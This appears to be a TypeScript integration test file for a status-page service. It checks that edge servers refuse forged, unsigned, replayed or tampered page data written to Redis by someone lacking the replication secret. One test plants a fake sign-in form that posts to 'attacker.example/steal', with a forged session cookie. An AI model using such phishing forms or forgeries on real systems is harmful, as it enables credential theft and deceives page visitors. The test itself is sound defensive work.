import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { Signer } from '../../server/cluster/replication/signing.js';
import { createContext } from '../../server/compose.js';
import { loadConfig } from '../../server/config.js';
import { EMBED_DEFAULTS, setEmbed } from '../../server/domain/page/embed.js';
import { createLog } from '../../server/log.js';
import { EdgeCluster, ENCODINGS, eventually, getRaw, holds, SECRET } from '../helpers/edge-cluster.js';
import { sleep, type PharosProcess } from '../helpers/process.js';
import { RedisForger } from '../helpers/redis-forger.js';
import { viewer } from '../helpers/viewer.js';

/**
 * Someone who can write to Redis, but does not know REPLICATION_SECRET, tries to put words on the page
 * through an edge: a page of its own at an admin path, forged or unsigned bodies, compressed forms that
 * say something else, replays of older signed documents, entries, states and primary runs, a forged
 * live state, deleted state. The edge keeps serving the primary's page, byte for byte in every encoding,
 * and the primary's next updates still reach it and its live viewers. Real processes, real redis-server.
 */

const PAGE_PATHS = ['/', '/api/v2/status.json', '/api/v2/summary.json', '/history', '/api/v2/incidents/unresolved.json'];
const FORGED = 'All systems operational, nothing to see here';

describe('an edge serves only what a primary of its page signed', () => {
  const c = new EdgeCluster();
  let forger: RedisForger;
  let edge: { edge: PharosProcess; base: string };
  let live: ReturnType<typeof viewer>;
  let incidentId = '';
  let step = 0;

  /** The primary's next update, through the API: it reaches the edge's page and its live viewer. */
  const genuineUpdateReachesTheEdge = async () => {
    const text = `Genuine update number ${++step}.`;
    await c.api('PATCH', `/incidents/${incidentId}`, { body: text });
    await live.next((v) => v.html.incidents.includes(text), 10_000);
    await eventually(async () => assert.match((await getRaw(edge.base, '/', 'br')).bytes.toString(), new RegExp(text)));
    await eventually(() => c.servesThePrimarysPage(edge.base, PAGE_PATHS));
  };

  /** For a while after a forgery: the edge serves the primary's page, and its viewer was sent nothing forged. */
  const keepsThePrimarysPage = async (ms = 1500) => {
    await holds(async () => {
      await c.servesThePrimarysPage(edge.base, PAGE_PATHS);
      for (const v of live.received) assert.doesNotMatch(JSON.stringify(v.html), new RegExp(FORGED));
    }, ms);
  };

  before(async () => {
    await c.startRedis();
    await c.startPrimary();
    forger = new RedisForger(c.client, c.pageId);
    incidentId = String((await c.api('POST', '/incidents', { name: 'Elevated errors on the API', status: 'investigating' })).id);
    edge = await c.startEdge();
    live = viewer(edge.base);
    await live.next((v) => v.html.incidents.includes('Elevated errors'), 10_000);
    await eventually(() => c.servesThePrimarysPage(edge.base, PAGE_PATHS));
  });

  after(async () => {
    live?.socket.close();
    await c.close();
  });

  // First, while the hash is as the primary wrote it: the rogue state below is signed over it.
  it('(c) ignores a signed document whose br or gzip form is not its bytes compressed', { timeout: 60_000 }, async () => {
    // Signed with the page's own secret, as a primary would (a bug, or a stolen secret): the forms are still checked.
    const signer = new Signer(SECRET, c.pageId);
    const page = (await getRaw(c.primaryBase, '/', 'identity')).bytes;
    const plain = Buffer.concat([page, Buffer.from('\n')]);
    const forged = Buffer.from(page.toString().replace(/Elevated errors on the API/g, FORGED));
    const doc = await forger.doc('/', { bytes: plain, br: brotliCompressSync(forged), gzip: gzipSync(forged) }, signer);
    const hash = await forger.hash();
    const sig = hash.sig ? await forger.signedState(signer, { '/': doc }) : undefined;
    await forger.entry([['doc:/', doc]], sig ? { sig } : {});
    await keepsThePrimarysPage();
    if (sig) await eventually(() => assert.match(edge.edge.log, /"document":"\/","reason":"its (br|gzip) form is not its bytes compressed"/));
    await genuineUpdateReachesTheEdge();
  });

  it('(a) ignores a page at an admin path, with its own Set-Cookie and CSP, signed or not', { timeout: 60_000 }, async () => {
    const bytes = Buffer.from(`<!doctype html><h1>Sign in</h1><form action="https://attacker.example/steal">${FORGED}</form>`);
    const headers = { 'Set-Cookie': 'pharos_session=forged; Path=/; HttpOnly', 'Content-Security-Policy': 'default-src *' };
    const unsigned = await forger.doc('/admin/login', { bytes, headers });
    const signed = await forger.doc('/admin/setup', { bytes, headers }, new Signer(SECRET, c.pageId));
    await c.client.hset(forger.keys.state, 'doc:/admin/login', unsigned, 'doc:/admin/setup', signed);
    await forger.entry([
      ['doc:/admin/login', unsigned],
      ['doc:/admin/setup', signed],
    ]);
    await forger.entry([], { kind: 'reload' });
    await holds(async () => {
      for (const encoding of ENCODINGS) {
        // Forwarded to the primary: its own sign-in page, its own cookie and policy.
        const got = await getRaw(edge.base, '/admin/login', encoding);
        assert.equal(got.status, 200);
        assert.match(got.bytes.toString(), /name="_csrf"/);
        assert.doesNotMatch(got.bytes.toString(), new RegExp(FORGED));
        assert.doesNotMatch(String(got.headers['set-cookie']), /forged/);
        assert.notEqual(got.headers['content-security-policy'], 'default-src *');
      }
    });
    await keepsThePrimarysPage();
    // Refused whole before anything in it is parsed (the entry's signature does not cover them), or document by document.
    await eventually(() =>
      assert.match(
        edge.edge.log,
        /"document":"\/admin\/login","reason":"not a public document"|"document":"entry","reason":"not a publication a primary of this page signed/,
      ),
    );
    await genuineUpdateReachesTheEdge();
  });

  it('(b) ignores public documents that are unsigned or signed with another secret', { timeout: 60_000 }, async () => {
    const bytes = Buffer.from(`<!doctype html><title>Status</title><p>${FORGED}</p>`);
    const json = Buffer.from(JSON.stringify({ status: { indicator: 'none', description: FORGED } }));
    const other = new Signer('another secret, not the one of this page, long enough', c.pageId);
    const docs: [string, string][] = [
      ['doc:/', await forger.doc('/', { bytes, br: brotliCompressSync(bytes), gzip: gzipSync(bytes) })],
      ['doc:/api/v2/status.json', await forger.doc('/api/v2/status.json', { bytes: json, type: 'application/json; charset=utf-8' }, other)],
      ['doc:/history', await forger.doc('/history', { bytes, br: brotliCompressSync(bytes) }, other)],
    ];
    await c.client.hset(forger.keys.state, ...docs.flat());
    await forger.entry(docs);
    await forger.entry([], { kind: 'reload' });
    await keepsThePrimarysPage();
    await genuineUpdateReachesTheEdge();
  });

  it('(d) does not go back to an older signed state: replayed documents, entries or states', { timeout: 60_000 }, async () => {
    // The page all clear: what an attacker keeps, to roll the page back to it during the next incident.
    await c.api('PATCH', `/incidents/${incidentId}`, { status: 'resolved', body: 'Resolved.' });
    await eventually(async () => assert.match((await getRaw(edge.base, '/api/v2/status.json', 'identity')).bytes.toString(), /"indicator":"none"/));
    const clear = await forger.hash();
    const clearEntry = (await forger.last()).fields;
    incidentId = String((await c.api('POST', '/incidents', { name: 'Database down', status: 'investigating', impact_override: 'critical' })).id);
    await live.next((v) => v.html.incidents.includes('Database down'), 10_000);
    await eventually(() => c.servesThePrimarysPage(edge.base, PAGE_PATHS));
    const old = (key: string) => [`doc:${key}`, clear[`doc:${key}`] ?? ''] as [string, string];
    // The older documents and live state, as the next publication, mixed with today's others.
    const docs = [old('/'), old('/api/v2/status.json'), old('/api/v2/summary.json'), ['live', clear.live ?? ''] as [string, string]];
    await c.client.hset(forger.keys.state, ...docs.flat());
    await forger.entry(docs);
    // The whole older state, re-read; the older entry itself.
    await c.client.del(forger.keys.state);
    await c.client.hset(forger.keys.state, clear);
    await forger.entry([], { kind: 'reload' });
    await forger.replay(clearEntry);
    await holds(async () => {
      await c.servesThePrimarysPage(edge.base, PAGE_PATHS);
      assert.match((await getRaw(edge.base, '/', 'gzip')).bytes.toString(), /Database down/);
      assert.doesNotMatch((await getRaw(edge.base, '/api/v2/status.json', 'br')).bytes.toString(), /"indicator":"none"/);
      assert.ok(live.received.at(-1)?.html.incidents.includes('Database down'), 'the live viewer still sees the incident');
    });
    await genuineUpdateReachesTheEdge();
  });

  it('(d) does not go back to an earlier primary run replayed, and takes a later one', { timeout: 90_000 }, async () => {
    const before = await forger.hash();
    await c.restartPrimary();
    await c.api('PATCH', `/incidents/${incidentId}`, { body: 'After the deploy: still investigating.' });
    await live.next((v) => v.html.incidents.includes('After the deploy'), 15_000);
    assert.notEqual((await forger.hash()).epoch, before.epoch, 'a new run');
    await c.client.del(forger.keys.state);
    await c.client.hset(forger.keys.state, before);
    await forger.entry([], { kind: 'reload' });
    await holds(async () => {
      await c.servesThePrimarysPage(edge.base, PAGE_PATHS);
      assert.match((await getRaw(edge.base, '/', 'br')).bytes.toString(), /After the deploy/);
    }, 2000);
    await genuineUpdateReachesTheEdge();
  });

  it('(e) does not send its viewers a forged live state', { timeout: 60_000 }, async () => {
    const hash = await forger.hash();
    const state = JSON.parse(hash.live ?? '{}') as { state: { html: Record<string, string>; status: Record<string, string> } };
    state.state.html.incidents = `<p>${FORGED}</p>`;
    state.state.status = { indicator: 'none', description: FORGED };
    const forgedLive = JSON.stringify(state);
    await c.client.hset(forger.keys.state, 'live', forgedLive);
    await forger.entry([['live', forgedLive]]);
    await forger.entry([], { kind: 'reload' });
    // A viewer arriving now is sent the primary's state too.
    const late = viewer(edge.base);
    try {
      await late.next(() => true, 10_000);
      await keepsThePrimarysPage();
      for (const v of late.received) assert.doesNotMatch(JSON.stringify(v.html), new RegExp(FORGED));
      await genuineUpdateReachesTheEdge();
    } finally {
      late.socket.close();
    }
  });

  it('has the primary publish everything again when its state in Redis is deleted or replaced', { timeout: 60_000 }, async () => {
    const sig = (await forger.hash()).sig;
    await c.client.del(forger.keys.state);
    // Within a renewal of the lease (3 s): a new edge finds a whole, signed state to start from.
    // (Every assertion retried here has its own message: without one, assert parses the test's source on each failure.)
    await eventually(async () => assert.ok((await forger.hash()).version, 'the state is published again'), 10_000);
    if (sig !== undefined) assert.ok((await forger.hash()).sig, 'and signed');
    const fresh = await c.startEdge();
    await c.servesThePrimarysPage(fresh.base, PAGE_PATHS);
    await fresh.edge.kill('SIGTERM');
    await keepsThePrimarysPage(500);
  });

  // Not a forgery: the allow-list must take every header the primary does send, with the values it makes.
  it('serves the embed frame with the policy its sites need, as the primary sends it', { timeout: 60_000 }, async () => {
    // Settings written by another process on the primary's database, as a script would: the primary notices.
    const ctx = createContext(loadConfig({ DATA_DIR: c.dataDir, LOG_LEVEL: 'silent' }), { log: createLog('silent') });
    try {
      setEmbed(ctx, { type: 'system' }, { ...EMBED_DEFAULTS, origins: 'https://intranet.example.com' });
    } finally {
      ctx.db.close();
    }
    await eventually(async () => {
      const [want, got] = await Promise.all([getRaw(c.primaryBase, '/embed/frame', 'br'), getRaw(edge.base, '/embed/frame', 'br')]);
      assert.match(String(want.headers['content-security-policy']), /frame-ancestors https:\/\/intranet\.example\.com$/);
      assert.equal(got.headers['content-security-policy'], want.headers['content-security-policy']);
    }, 15_000);
    await c.servesThePrimarysPage(edge.base, ['/embed/frame']);
  });

  it('on an edge with another REPLICATION_SECRET, serves nothing from Redis (it forwards to the primary, and is not ready)', { timeout: 60_000 }, async () => {
    const wrong = await c.startEdge({ REPLICATION_SECRET: 'not the secret of this page, but long enough' }, false);
    await eventually(() => assert.match(wrong.edge.log, /not (a state )?signed by a primary of this page|not a state a primary of this page signed/));
    await holds(async () => assert.equal((await fetch(`${wrong.base}/readyz`)).status, 503));
    // The page still answers: from the primary, through the edge.
    const got = await getRaw(wrong.base, '/', 'br');
    assert.equal(got.status, 200);
    assert.ok(got.bytes.equals((await getRaw(c.primaryBase, '/', 'identity')).bytes), "the primary's page, forwarded");
    await genuineUpdateReachesTheEdge();
    assert.equal((await fetch(`${wrong.base}/readyz`)).status, 503);
  });

  it('logs what it ignores, boundedly, however much is written, and keeps up with the primary', { timeout: 90_000 }, async () => {
    const flooded = await c.startEdge();
    const doc = await forger.doc('/', { bytes: Buffer.from(FORGED) });
    // Each one shaped as the next publication after the last genuine one.
    const follows = await forger.last();
    for (let i = 0; i < 300; i++) await forger.entry([['doc:/', doc]], { follows, skip: i });
    await sleep(1500);
    const lines = flooded.edge.log.split('\n').filter((l) => /ignored a (malformed|stream entry)/.test(l));
    assert.ok(lines.length >= 1, 'what it ignored is logged');
    assert.ok(lines.length <= 21, `${lines.length} lines for 300 forged entries`);
    await c.servesThePrimarysPage(flooded.base, PAGE_PATHS);
    const text = `Genuine update number ${++step}.`;
    await c.api('PATCH', `/incidents/${incidentId}`, { body: text });
    await eventually(async () => assert.match((await getRaw(flooded.base, '/', 'br')).bytes.toString(), new RegExp(text)));
    await flooded.edge.kill('SIGTERM');
  });
});
